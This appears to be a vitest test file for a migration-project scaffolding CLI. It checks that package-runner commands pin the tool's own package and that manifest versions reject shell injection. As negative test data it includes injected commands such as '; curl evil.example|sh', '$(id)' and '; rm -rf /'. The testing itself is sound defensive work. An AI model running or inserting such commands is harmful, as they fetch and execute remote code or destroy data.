import { readdirSync, readFileSync, lstatSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { ROOT, runCli, tempDir } from './helpers/cli.js';
import { recordedToolVersion, toolContext } from '../src/core/tool.js';
import { loadTemplateDir } from '../src/edge/template-dir.js';
import { BUILTIN_TEMPLATE_DIR } from '../src/edge/builtin.js';
import { resolveAnswers } from '../src/core/answers/resolve.js';
import { planRender } from '../src/core/template/plan.js';

// The unscoped `create-migration` on the npm registry belongs to someone else: whatever this tool
// writes or prints that runs a package through a package runner must name this package, pinned.
const VERSION: string = JSON.parse(readFileSync(path.join(ROOT, 'package.json'), 'utf8')).version;
const OURS = `create-kailash-migration@${VERSION}`;

/** Every package spec a line hands to a package runner (npx, npm exec/create/init/x, pnpm/yarn dlx, bunx). */
export function runnerSpecs(text: string): string[] {
  const specs: string[] = [];
  const runner = /(?:^|[\s`'"(;|&=])(npx|bunx|npm\s+(?:exec|x|create|init)|(?:pnpm|yarn)\s+(?:dlx|create|exec))\b((?:\s+-[-\w]+(?:=\S+)?)*)\s+([^\s`'")]+)/gm;
  for (const m of text.matchAll(runner)) {
    const word = m[3]!;
    // `npm create kailash-migration@x` names create-kailash-migration@x.
    specs.push(/^npm\s+(create|init)$/.test(m[1]!.replace(/\s+/g, ' ')) || /create$/.test(m[1]!) ? `create-${word}` : word);
  }
  return specs;
}

function filesUnder(dir: string): string[] {
  const out: string[] = [];
  for (const name of readdirSync(dir)) {
    if (name === '.git') continue;
    const p = path.join(dir, name);
    const st = lstatSync(p);
    if (st.isDirectory()) out.push(...filesUnder(p));
    else if (st.isFile()) out.push(p);
  }
  return out;
}

function specsIn(dir: string): { file: string; spec: string }[] {
  return filesUnder(dir).flatMap((file) => runnerSpecs(readFileSync(file, 'utf8')).map((spec) => ({ file: path.relative(dir, file), spec })));
}

describe('what runs the tool through a package runner names this package, pinned', () => {
  it('finds the specs a line hands to npx, npm create and friends (the scanner this test relies on)', () => {
    expect(runnerSpecs('run: npx --yes create-migration@latest sync --check')).toEqual(['create-migration@latest']);
    expect(runnerSpecs('npm create migration@latest x -- --yes')).toEqual(['create-migration@latest']);
    expect(runnerSpecs('`npx create-kailash-migration@1.2.3 status`')).toEqual(['create-kailash-migration@1.2.3']);
    expect(runnerSpecs("CREATE_MIGRATION: ${{ vars.CREATE_MIGRATION || 'npx --yes evil' }}")).toEqual(['evil']);
    expect(runnerSpecs('pnpm dlx create-migration')).toEqual(['create-migration']);
  });

  for (const ci of ['github', 'gitlab', 'none'] as const) {
    it(`in every file of a project with ci=${ci}, after add, and in the messages`, async () => {
      const tmp = tempDir();
      const made = await runCli(['p', '--yes', '--set', `ci=${ci}`, '--set', 'patterns=etl,api,reporting'], { cwd: tmp });
      expect(made.code, made.stderr).toBe(0);
      const dir = path.join(tmp, 'p');
      const added = await runCli(['add', 'workflow', 'nightly_load', '--pattern', 'etl', '--source', 'csv', '--yes'], { cwd: dir });
      expect(added.code, added.stderr).toBe(0);
      const status = await runCli(['status'], { cwd: dir });
      const found = specsIn(dir);
      const messages = [made, added, status].flatMap((r) => runnerSpecs(r.stdout + r.stderr).map((spec) => ({ file: '(message)', spec })));
      // The project and its messages do name the tool (so this test looks at something).
      expect(found.length).toBeGreaterThan(3);
      expect([...found, ...messages].filter((f) => f.spec !== OURS)).toEqual([]);
      if (ci !== 'none') {
        const drift = ci === 'github' ? readFileSync(path.join(dir, '.github/workflows/ci.yml'), 'utf8') : readFileSync(path.join(dir, '.gitlab-ci.yml'), 'utf8');
        // A mirror is one variable away.
        expect(drift).toMatch(/\$CREATE_MIGRATION sync --check/);
      }
      const manifest = JSON.parse(readFileSync(path.join(dir, '.migration-template.json'), 'utf8'));
      expect(manifest.generator).toBe(OURS);
    }, 120_000);
  }

  it("in this tool's own README and docs", () => {
    const docs = [path.join(ROOT, 'README.md'), ...filesUnder(path.join(ROOT, 'docs'))];
    // The development notes run vitest through npx too: only what runs a migration tool counts here.
    const found = docs.flatMap((file) => runnerSpecs(readFileSync(file, 'utf8')).filter((spec) => /migration/.test(spec)).map((spec) => ({ file, spec })));
    expect(found.length).toBeGreaterThan(0);
    expect(found.filter((f) => f.spec !== OURS)).toEqual([]);
  });
});

describe('the pinned version comes from the manifest, and only as an exact version', () => {
  it('reads create-kailash-migration@x and the older create-migration@x, and nothing a shell could run', () => {
    expect(recordedToolVersion('create-kailash-migration@1.2.3')).toBe('1.2.3');
    expect(recordedToolVersion('create-migration@0.1.0')).toBe('0.1.0');
    expect(recordedToolVersion('create-kailash-migration@1.0.0-rc.1')).toBe('1.0.0-rc.1');
    for (const bad of ['create-kailash-migration@latest', 'create-kailash-migration@1.0.0; curl x|sh', 'create-kailash-migration@1.0.0 $(id)', 'evil@1.0.0', 'create-kailash-migration@^1.0.0', 'create-kailash-migration@1.0.0\nrun: x', 42, null]) {
      expect(recordedToolVersion(bad)).toBeUndefined();
    }
    expect(toolContext('1.0.0; rm -rf /').version).not.toContain(';');
  });

  it('renders a base at the recorded tool version, and the new render at this one', async () => {
    const tpl = await loadTemplateDir(BUILTIN_TEMPLATE_DIR);
    const resolved = await resolveAnswers(tpl.spec, { provided: { ci: 'github' }, dirName: 'p', useDefaults: true });
    const ci = (files: { path: string; data: Uint8Array }[]) => new TextDecoder().decode(files.find((f) => f.path === '.github/workflows/ci.yml')!.data);
    expect(ci(planRender(tpl, resolved, { toolVersion: '0.0.9' }))).toContain("'npx --yes create-kailash-migration@0.0.9'");
    expect(ci(planRender(tpl, resolved))).toContain(`'npx --yes ${OURS}'`);
  });

  it('a manifest whose generator is a shell line does not reach the files add writes', async () => {
    const tmp = tempDir();
    expect((await runCli(['p', '--yes', '--no-git'], { cwd: tmp })).code).toBe(0);
    const dir = path.join(tmp, 'p');
    const mf = path.join(dir, '.migration-template.json');
    const m = JSON.parse(readFileSync(mf, 'utf8'));
    m.generator = 'create-kailash-migration@1.0.0; curl evil.example|sh';
    writeFileSync(mf, JSON.stringify(m, null, 2));
    const added = await runCli(['add', 'workflow', 'nightly_load', '--pattern', 'etl', '--source', 'csv', '--yes'], { cwd: dir });
    expect(added.code, added.stderr).toBe(0);
    const all = filesUnder(dir).map((f) => readFileSync(f, 'utf8')).join('\n');
    expect(all.replace(m.generator, '')).not.toContain('curl evil.example');
  }, 60_000);
});
